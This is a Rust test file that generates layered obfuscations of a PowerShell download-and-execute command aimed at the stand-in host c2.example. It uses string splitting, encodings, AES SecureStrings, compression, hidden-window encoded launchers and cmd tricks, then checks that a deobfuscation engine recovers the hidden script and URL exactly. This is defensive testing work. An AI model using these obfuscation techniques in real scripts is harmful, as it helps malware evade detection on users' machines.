//! Obfuscations stacked as their public generators stack them: by token, as strings, encoded, compressed, behind launchers
//! and behind `cmd`. What is hidden is known here, so that what the engine gives back can be compared to the letter.
//!
//! Seeded and inert: the hidden command fetches from a reserved name.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

mod seed;

use aes::cipher::{Array, BlockCipherEncrypt, KeyInit};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use seed::{Seed, quoted};
use std::io::Write;
use strongroom_files::powershell::{unfold, unfold_command};
use strongroom_files::script::{Action, Budget, Unfolded};
use strongroom_model::Limits;

impl Seed {
    /// Backticks in front of letters that mean nothing with one.
    fn ticks(&mut self, text: &str) -> String {
        let mut out = String::new();
        for (place, c) in text.chars().enumerate() {
            if place > 0
                && c.is_ascii_alphabetic()
                && !"0abefnrtuvx".contains(c.to_ascii_lowercase())
                && self.below(3) == 0
            {
                out.push('`');
            }
            out.push(c);
        }
        out
    }
}

fn codes(text: &str) -> Vec<u16> {
    text.encode_utf16().collect()
}

/// The command's tokens, each in another disguise.
fn token(url: &str, seed: &mut Seed) -> String {
    let string = string_of(url, seed);
    let class = match seed.below(4) {
        0 => seed.case("Net.WebClient"),
        1 => format!("({})", string_of("Net.WebClient", seed)),
        2 => format!("\"{}\"", seed.ticks("Net.WebClient")),
        _ => "System.Net.WebClient".to_owned(),
    };
    let create = match seed.below(5) {
        0 => format!("({} {class})", seed.case("New-Object")),
        1 => format!("(&({}) {class})", string_of("New-Object", seed)),
        2 => format!("(.({}) {class})", string_of("New-Object", seed)),
        3 => format!("({} {class})", seed.ticks("New-Object")),
        _ => format!(
            "(&(Get-Command {}) {class})",
            seed.pick(&["*w-O*", "N*-O*t", "New-Obj*"])
        ),
    };
    let call = match seed.below(5) {
        0 => format!(".{}({string})", seed.case("DownloadString")),
        1 => format!(".({})({string})", string_of("DownloadString", seed)),
        2 => format!(".\"{}\"({string})", seed.ticks("DownloadString")),
        3 => format!(".\"{}\".Invoke({string})", seed.ticks("DownloadString")),
        _ => format!(".({}).Invoke({string})", string_of("DownloadString", seed)),
    };
    format!("{create}{call}")
}

/// An expression that gives the text.
fn string_of(text: &str, seed: &mut Seed) -> String {
    let mark = loop {
        let mark: String = (0..3).map(|_| char::from(b'A' + seed.below(26) as u8)).collect();
        if !text.contains(&mark) {
            break mark;
        }
    };
    match seed.below(8) {
        0 => {
            let parts: Vec<String> = seed.cut(text, 5).iter().map(|part| quoted(part)).collect();
            format!("({})", parts.join("+"))
        }
        1 => {
            let parts = seed.cut(text, 5);
            let mut order: Vec<usize> = (0..parts.len()).collect();
            for at in (1..order.len()).rev() {
                order.swap(at, seed.below(at + 1));
            }
            let slots: String = (0..parts.len())
                .map(|at| format!("{{{}}}", order.iter().position(|&place| place == at).unwrap()))
                .collect();
            let list: Vec<String> = order.iter().map(|&at| quoted(&parts[at])).collect();
            let operator = seed.pick(&["-f", "-F", " -f "]);
            format!("(\"{slots}\"{operator}{})", list.join(","))
        }
        2 => {
            let back: String = text.chars().rev().collect();
            format!("(-join {}[-1..-{}])", quoted(&back), back.chars().count())
        }
        3 => {
            let back: String = text.chars().rev().collect();
            format!(
                "([RegEx]::Matches({},'.','RightToLeft')|ForEach-Object{{$_.Value}})-join''",
                quoted(&back)
            )
            .replacen("([", "(([", 1)
                + ")"
        }
        4 => format!(
            "{}.Replace({},'')",
            quoted(&seed.cut(text, 5).join(&mark)),
            quoted(&mark)
        ),
        5 => format!(
            "({} -creplace {},'')",
            quoted(&seed.cut(text, 5).join(&mark)),
            quoted(&mark)
        ),
        6 => format!(
            "(-join({}-split{}))",
            quoted(&seed.cut(text, 5).join(&mark)),
            quoted(&mark)
        ),
        _ => format!(
            "([String]::Join('',({})))",
            seed.cut(text, 5)
                .iter()
                .map(|part| quoted(part))
                .collect::<Vec<_>>()
                .join(",")
        ),
    }
}

/// An expression that gives the text out of numbers, bytes, or what is under a key.
fn encoded(text: &str, seed: &mut Seed) -> String {
    let units = codes(text);
    let separators = ["~", "x", "!", "{", "G", "_", "}"];
    let (one, other) = (separators[seed.below(7)], separators[seed.below(7)]);
    let listed = |numbers: Vec<String>, seed: &mut Seed| -> (String, String) {
        let mut out = String::new();
        for (place, number) in numbers.iter().enumerate() {
            if place > 0 {
                out.push_str(if seed.below(2) == 0 { one } else { other });
            }
            out.push_str(number);
        }
        let splits = if seed.below(2) == 0 {
            format!(".Split({})", quoted(&format!("{one}{other}")))
        } else {
            format!(
                " -split {} -split {}",
                quoted(&escaped(one)),
                quoted(&escaped(other))
            )
        };
        (out, splits)
    };
    match seed.below(9) {
        0 => {
            let (numbers, split) = listed(units.iter().map(u16::to_string).collect(), seed);
            format!("(({}{split}|%{{([char][int]$_)}}) -join '')", quoted(&numbers))
        }
        1 => {
            let (numbers, split) = listed(units.iter().map(|unit| format!("{unit:x}")).collect(), seed);
            // Hexadecimal digits must not be cut.
            if [one, other]
                .iter()
                .any(|sign| "0123456789abcdef".contains(&sign.to_lowercase()))
            {
                return encoded(text, seed);
            }
            format!(
                "(-join(({}{split})|ForEach-Object{{([Convert]::ToInt16(([String]$_),16)-as[Char])}}))",
                quoted(&numbers)
            )
        }
        2 => {
            let (numbers, split) = listed(units.iter().map(|unit| format!("{unit:o}")).collect(), seed);
            format!(
                "([String]::Join('',(({}{split})|%{{([Char]([Convert]::ToInt16(([String]$_),8)))}})))",
                quoted(&numbers)
            )
        }
        3 => {
            let (numbers, split) = listed(units.iter().map(|unit| format!("{unit:b}")).collect(), seed);
            format!(
                "((({}{split})|%{{([Convert]::ToInt16(($_.ToString()),2)-as[char])}})-join'')",
                quoted(&numbers)
            )
        }
        4 => {
            let key = 1 + seed.below(120) as u16;
            let numbers: Vec<String> = units.iter().map(|unit| (unit ^ key).to_string()).collect();
            format!("(({}|%{{[char]($_ -bxor {key:#x})}})-join'')", numbers.join(","))
        }
        5 => {
            // As the generators write it: `$OFS` set to nothing, a cast, and `$OFS` set back.
            let (numbers, split) = listed(units.iter().map(u16::to_string).collect(), seed);
            format!(
                "\"$(Set-Item 'Variable:OFS' '')\"+[String](({}{split}|%{{([char][int]$_)}}))+\"$(Set-Variable 'OFS' ' ')\"",
                quoted(&numbers)
            )
        }
        6 => {
            let key: Vec<u8> = (0..[16, 24, 32][seed.below(3)])
                .map(|_| seed.below(256) as u8)
                .collect();
            let list: Vec<String> = key.iter().map(u8::to_string).collect();
            let secret = secured(text, &key, seed);
            match seed.below(3) {
                0 => format!(
                    "([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('{secret}'|ConvertTo-SecureString -Key ({})))))",
                    list.join(",")
                ),
                1 => format!(
                    "([Runtime.InteropServices.Marshal]::PtrToStringUni([Runtime.InteropServices.Marshal]::SecureStringToGlobalAllocUnicode(('{secret}'|ConvertTo-SecureString -k {}))))",
                    list.join(",")
                ),
                _ => format!(
                    "((New-Object Management.Automation.PSCredential ' ',('{secret}'|ConvertTo-SecureString -Key ({}))).GetNetworkCredential().Password)",
                    list.join(",")
                ),
            }
        }
        7 => {
            let bytes: Vec<u8> = units.iter().flat_map(|unit| unit.to_le_bytes()).collect();
            format!(
                "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
                STANDARD.encode(bytes)
            )
        }
        _ => {
            // Blanks and tabs: each run of blanks is a digit.
            let lines: Vec<String> = units
                .iter()
                .map(|unit| {
                    unit.to_string()
                        .bytes()
                        .map(|digit| " ".repeat(usize::from(digit - b'0') + 1))
                        .collect::<Vec<_>>()
                        .join("\t")
                })
                .collect();
            format!(
                "(({}.Split('|')|%{{[char][int](($_.Split(\"`t\")|%{{$_.Length-1}})-join'')}})-join'')",
                quoted(&lines.join("|"))
            )
        }
    }
}

/// Takes the meaning from a sign of a pattern.
fn escaped(sign: &str) -> String {
    sign.chars()
        .map(|c| {
            if c.is_alphanumeric() || c == '_' || c == '~' || c == '!' {
                c.to_string()
            } else {
                format!("\\{c}")
            }
        })
        .collect()
}

fn secured(text: &str, key: &[u8], seed: &mut Seed) -> String {
    let iv: Vec<u8> = (0..16).map(|_| seed.below(256) as u8).collect();
    let mut plain: Vec<u8> = codes(text).iter().flat_map(|unit| unit.to_le_bytes()).collect();
    let padding = 16 - plain.len() % 16;
    plain.extend(std::iter::repeat_n(padding as u8, padding));
    let mut before = iv.clone();
    let mut digits = String::new();
    for chunk in plain.chunks(16) {
        let mixed: Vec<u8> = chunk
            .iter()
            .zip(&before)
            .map(|(one, other)| one ^ other)
            .collect();
        let mut block = Array::try_from(&mixed[..]).unwrap();
        match key.len() {
            16 => aes::Aes128::new_from_slice(key)
                .unwrap()
                .encrypt_block(&mut block),
            24 => aes::Aes192::new_from_slice(key)
                .unwrap()
                .encrypt_block(&mut block),
            _ => aes::Aes256::new_from_slice(key)
                .unwrap()
                .encrypt_block(&mut block),
        }
        before = block.to_vec();
        digits.extend(before.iter().map(|byte| format!("{byte:02x}")));
    }
    let inner = format!("2|{}|{digits}", STANDARD.encode(&iv));
    let bytes: Vec<u8> = codes(&inner).iter().flat_map(|unit| unit.to_le_bytes()).collect();
    format!("76492d1116743f0423413b16050a5345{}", STANDARD.encode(bytes))
}

fn compressed(text: &str, seed: &mut Seed) -> String {
    let deflated = seed.below(2) == 0;
    let bytes = if deflated {
        let mut stream = DeflateEncoder::new(Vec::new(), Compression::default());
        stream.write_all(text.as_bytes()).unwrap();
        stream.finish().unwrap()
    } else {
        let mut stream = GzEncoder::new(Vec::new(), Compression::default());
        stream.write_all(text.as_bytes()).unwrap();
        stream.finish().unwrap()
    };
    let class = if deflated { "DeflateStream" } else { "GzipStream" };
    let base64 = STANDARD.encode(bytes);
    match seed.below(3) {
        0 => format!(
            "(New-Object IO.StreamReader((New-Object IO.Compression.{class}([IO.MemoryStream][Convert]::FromBase64String('{base64}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
        ),
        1 => format!(
            "(New-Object IO.Compression.{class}([IO.MemoryStream][Convert]::FromBase64String('{base64}'),[IO.Compression.CompressionMode]::Decompress)|%{{New-Object IO.StreamReader($_,[Text.Encoding]::ASCII)}}|%{{$_.ReadToEnd()}})"
        ),
        _ => format!(
            "$(New-Object IO.StreamReader($(New-Object IO.Compression.{class}($(New-Object IO.MemoryStream(,$([Convert]::FromBase64String('{base64}')))),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
        ),
    }
}

/// A statement that runs what the expression gives.
fn run(expression: &str, seed: &mut Seed) -> String {
    let iex = [
        "iex",
        "IEX",
        "Invoke-Expression",
        "i`ex",
        "&('i'+'ex')",
        ".($PSHome[4]+$PSHome[30]+'x')",
        ".($ShellId[1]+$ShellId[13]+'x')",
        "&($env:ComSpec[4,15,25]-join'')",
        ".($env:ComSpec[4,26,25]-join'')",
        "&((Get-Variable '*mdr*').Name[3,11,2]-join'')",
        ".((gv '*mdr*').NaME[3,11,2]-JoIn'')",
        "&($VerbosePreference.ToString()[1,3]+'x'-join'')",
        ".(gal ?e[x])",
        "&(gcm *ke-E*)",
        "&(Get-Alias iex)",
    ];
    let iex = iex[seed.below(iex.len())];
    match seed.below(5) {
        0 => format!("{expression}|{iex}"),
        1 => format!("&([ScriptBlock]::Create(({expression})))"),
        2 => format!("$ExecutionContext.InvokeCommand.InvokeScript(({expression}))"),
        _ => format!("{iex} ({expression})"),
    }
}

/// One layer around a script.
fn layer(script: &str, seed: &mut Seed) -> String {
    let expression = match seed.below(4) {
        0 => string_of(script, seed),
        1 | 2 => encoded(script, seed),
        _ => compressed(script, seed),
    };
    run(&expression, seed)
}

/// A command line around a script.
fn launcher(script: &str, seed: &mut Seed) -> String {
    let bytes: Vec<u8> = codes(script).iter().flat_map(|unit| unit.to_le_bytes()).collect();
    let base64 = STANDARD.encode(bytes);
    let flags = seed.pick(&[
        "",
        " -NoP -NonI",
        " -w hidden",
        " -WindowStyle h -ep bypass",
        " -nologo -exec bypass -noprofile",
    ]);
    let switch = seed.pick(&[
        "-e",
        "-ec",
        "-enc",
        "-EncodedCommand",
        "/enc",
        "-eNCOdEdC",
        "\u{2013}enc",
        "\u{2014}e",
    ]);
    let program = [
        "powershell",
        "PowerShell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "\"powershell\"",
    ][seed.below(4)];
    let line = format!("{program}{flags} {switch} {base64}");
    if seed.below(3) == 0 {
        return line;
    }
    let plain = format!("powershell{flags} {switch} {base64}");
    cmd(&plain, seed)
}

/// A line of `cmd` that starts another.
fn cmd(line: &str, seed: &mut Seed) -> String {
    let name: String = (0..4).map(|_| char::from(b'a' + seed.below(26) as u8)).collect();
    match seed.below(9) {
        0 => format!("cmd /c {line}"),
        1 => {
            // Carets in front of letters outside quotes.
            let carets: String = line
                .chars()
                .flat_map(|c| {
                    if c.is_ascii_alphanumeric() && seed.below(4) == 0 {
                        vec!['^', c]
                    } else {
                        vec![c]
                    }
                })
                .collect();
            format!("cmd.exe /c {carets}")
        }
        2 => {
            let (head, tail) = line.split_at(5 + seed.below(4));
            format!("cmd /c \"set {name}={head}&&call %{name}%{tail}\"")
        }
        3 => {
            let (head, tail) = line.split_at(5 + seed.below(4));
            format!("cmd /V:ON /c \"set {name}={head}&&!{name}!{tail}\"")
        }
        4 => format!("cmd /c \"start \"\" /b {line}\""),
        5 => {
            // Each character by its place in another variable.
            let word = "powershell";
            let letters = "qwertyuiopasdfghjklzxcvbnm";
            let cuts: String = word
                .chars()
                .map(|c| format!("!{name}:~{},1!", letters.find(c).unwrap()))
                .collect();
            format!(
                "cmd /v /c \"set {name}={letters}&&{cuts}{}\"",
                &line[word.len()..]
            )
        }
        6 => {
            let back: String = "powershell".chars().rev().collect();
            let rest = &line["powershell".len()..];
            format!(
                "cmd /V:ON/C\"set {name}={back}&&set q=&&for /L %i in (9,-1,0)do set q=!q!!{name}:~%i,1!&&if %i equ 0 !q!{rest}\""
            )
        }
        7 => format!(
            "cmd /c \"for /f \"tokens=2 delims=,\" %a in (\"x,powershell,y\") do %a{}\"",
            &line["powershell".len()..]
        ),
        _ => {
            let mark = "ZQ";
            let noisy = format!("po{mark}wers{mark}hell");
            format!(
                "cmd /v:on /c \"set {name}={noisy}&&!{name}:{mark}=!{}\"",
                &line["powershell".len()..]
            )
        }
    }
}

fn fetched(unfolded: &Unfolded) -> Vec<String> {
    let url = |action: &Action| match action {
        Action::Download { url, .. } => Some(url.to_string()),
        _ => None,
    };
    unfolded
        .effects
        .iter()
        .filter_map(|effect| url(&effect.action))
        .collect()
}

/// How many of a range of seeds are recovered: the hidden script among the layers and its fetch to the letter. An exact fetch
/// of anything else would be an invention.
fn recovered(seeds: std::ops::Range<u64>, tell: bool) -> (usize, usize, usize) {
    let limits = Limits::default();
    let (mut right, mut all, mut invented) = (0, 0, 0);
    for number in seeds {
        let mut seed = Seed(number.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1);
        let url = format!("http://c2.example/{number}/it's");
        let clear = token(&url, &mut seed);
        let mut script = clear.clone();
        let depth = seed.below(4);
        for _ in 0..depth {
            if script.len() < 20_000 {
                script = layer(&script, &mut seed);
            }
        }
        let by_line = seed.below(2) == 0;
        let unfolded = if by_line {
            let line = launcher(&script, &mut seed);
            unfold_command(&line, &mut Budget::new(&limits)).unwrap_or_default()
        } else {
            unfold(&script, &mut Budget::new(&limits))
        };
        all += 1;
        let urls = fetched(&unfolded);
        let held = unfolded.layers.iter().any(|layer| layer.text.trim() == clear);
        let fetches = urls.contains(&url);
        invented += usize::from(urls.iter().any(|other| *other != url && !other.contains('⟨')));
        right += usize::from(held && fetches);
        if tell && !(held && fetches) {
            println!(
                "seed {number}: held {held} fetches {fetches} {urls:?}\n   {clear:.300}\n   {script:.600}"
            );
            println!("   {:?}", unfolded.gaps.first());
        }
    }
    (right, all, invented)
}

#[test]
fn what_generators_hide_is_recovered() {
    let tell = std::env::var_os("TELL").is_some();
    let (right, all, invented) = recovered(0..400, tell);
    println!("seeds 0..400: {right} of {all} recovered exactly, {invented} with a fetch that is not there");
    let (unseen, rest, more) = recovered(1_000_000..1_000_400, false);
    println!(
        "seeds never looked at: {unseen} of {rest} recovered exactly, {more} with a fetch that is not there"
    );
    assert!(
        right * 100 >= all * 95 && unseen * 100 >= rest * 95,
        "fewer than 95 % recovered"
    );
    assert_eq!(invented + more, 0, "what is claimed exact is not");
}
